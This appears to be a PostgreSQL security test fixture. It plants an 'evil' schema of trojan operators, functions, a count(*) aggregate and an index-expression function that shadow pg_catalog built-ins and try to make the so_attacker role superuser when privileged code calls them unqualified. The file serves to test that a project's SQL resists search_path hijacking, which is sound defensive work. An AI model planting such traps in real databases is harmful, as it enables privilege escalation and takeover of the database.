-- The traps of security_owner.sql, planted in each database (run as a superuser).
CREATE SCHEMA evil AUTHORIZATION so_attacker;
SET ROLE so_attacker;
CREATE TABLE evil.calls (what text, usr name);
GRANT INSERT ON evil.calls TO PUBLIC;
CREATE TABLE evil.idx_calls (usr name);
GRANT INSERT ON evil.idx_calls TO PUBLIC;
CREATE FUNCTION evil.escalate() RETURNS void LANGUAGE plpgsql AS $t$
BEGIN
	-- the data nodes share this instance: never wait on another node's trap
	SET LOCAL lock_timeout = '10ms';
	ALTER ROLE so_attacker SUPERUSER;
EXCEPTION WHEN insufficient_privilege OR lock_not_available THEN NULL;
END $t$;
CREATE FUNCTION evil.trap(what text) RETURNS void LANGUAGE plpgsql AS $t$
BEGIN
	INSERT INTO evil.calls VALUES (what, current_user);
	PERFORM evil.escalate();
END $t$;
DO $d$
DECLARE
	o record;
	f record;
	types regtype[] := '{int2,int4,int8,name,text,oid,regclass,timestamptz,timestamp,date,interval,bool,float8,numeric,"char"}';
BEGIN
	-- every built-in binary operator of those names between those types
	FOR o IN
		SELECT p.oid, p.oprname, p.oprleft::regtype AS l, p.oprright::regtype AS r,
			   p.oprresult::regtype AS res
		  FROM pg_catalog.pg_operator p
		 WHERE p.oprnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace
		   AND p.oprkind OPERATOR(pg_catalog.=) 'b'
		   AND p.oprname OPERATOR(pg_catalog.=) ANY ('{=,<>,<,<=,>,>=,+,-,*,/,%,||,~~,~,&,|}')
		   AND p.oprleft::regtype OPERATOR(pg_catalog.=) ANY (types)
		   AND p.oprright::regtype OPERATOR(pg_catalog.=) ANY (types)
		UNION ALL
		-- and exact matches for types that borrow oid's operators
		SELECT 0, c.op, l, r, 'bool'::regtype
		  FROM unnest('{=,<>,<,<=,>,>=}'::text[]) c(op),
			   (VALUES ('regclass'::regtype, 'regclass'::regtype), ('regclass', 'oid'),
					   ('oid', 'regclass')) t(l, r)
	LOOP
		EXECUTE format('CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS '
					   '$f$ BEGIN PERFORM evil.trap(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END $f$',
					   'op_' || md5(o.oprname || o.l || o.r), o.l, o.r, o.res,
					   o.oprname || '(' || o.l || ', ' || o.r || ')', o.oprname);
		EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)',
					   o.oprname, o.l, o.r, 'op_' || md5(o.oprname || o.l || o.r));
	END LOOP;
	-- functions our SQL might call unqualified, for every plain signature
	FOR f IN
		SELECT p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS args,
			   p.prorettype::regtype AS res, p.pronargs AS n
		  FROM pg_catalog.pg_proc p
		 WHERE p.pronamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace
		   AND p.prokind OPERATOR(pg_catalog.=) 'f' AND NOT p.proretset
		   AND p.provariadic OPERATOR(pg_catalog.=) 0
		   -- no pseudo-types (polymorphic, "any", internal...) in or out
		   AND NOT EXISTS (SELECT FROM pg_catalog.pg_type ty
							WHERE ty.oid OPERATOR(pg_catalog.=) ANY (p.proargtypes::oid[] || p.prorettype)
							  AND ty.typtype OPERATOR(pg_catalog.=) 'p')
		   AND p.proname OPERATOR(pg_catalog.=) ANY ('{lower,upper,format,quote_ident,quote_literal,
				quote_nullable,length,now,nextval,currval,setval,to_regclass,pg_relation_size,
				pg_total_relation_size,pg_indexes_size,pg_table_size,pg_size_pretty,current_setting,
				set_config,substr,replace,split_part,left,right,abs,hashint4,hashint8,hashtext,
				int4,int8,text,date_trunc,to_timestamp,date_part,has_table_privilege,
				has_schema_privilege,pg_has_role,pg_get_userbyid,current_database,clock_timestamp,
				statement_timestamp,timezone,pg_current_snapshot,pg_snapshot_xmin,
				pg_get_constraintdef,pg_get_indexdef,pg_get_expr,textin,textout,regclassout,
				regclassin,obj_description,age,pg_backend_pid,pg_try_advisory_xact_lock,
				pg_advisory_xact_lock,to_char,lpad,rpad,concat_ws,strpos,position}')
	LOOP
		EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS '
					   '$f$ BEGIN PERFORM evil.trap(%L); RETURN pg_catalog.%I(%s); END $f$',
					   f.proname, f.args, f.res, f.proname || '(' || f.args || ')', f.proname,
					   (SELECT pg_catalog.string_agg('$' || i, ', ')
						  FROM pg_catalog.generate_series(1, f.n) i));
	END LOOP;
END $d$;
CREATE FUNCTION evil.cnt(bigint) RETURNS bigint LANGUAGE plpgsql AS
	$f$ BEGIN PERFORM evil.trap('count(*)'); RETURN $1 OPERATOR(pg_catalog.+) 1; END $f$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.cnt, STYPE = bigint, INITCOND = 0);
-- an index expression of the attacker's: runs as whoever builds or fills the index
CREATE FUNCTION evil.idx_record() RETURNS void LANGUAGE plpgsql AS $f$
BEGIN
	INSERT INTO evil.idx_calls VALUES (current_user);
	PERFORM evil.escalate();
END $f$;
CREATE FUNCTION evil.idx(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS
	$f$ BEGIN PERFORM evil.idx_record(); RETURN i; END $f$;
CREATE PROCEDURE evil.job(job_id integer, config jsonb) LANGUAGE plpgsql AS $f$ BEGIN END $f$;
RESET ROLE;
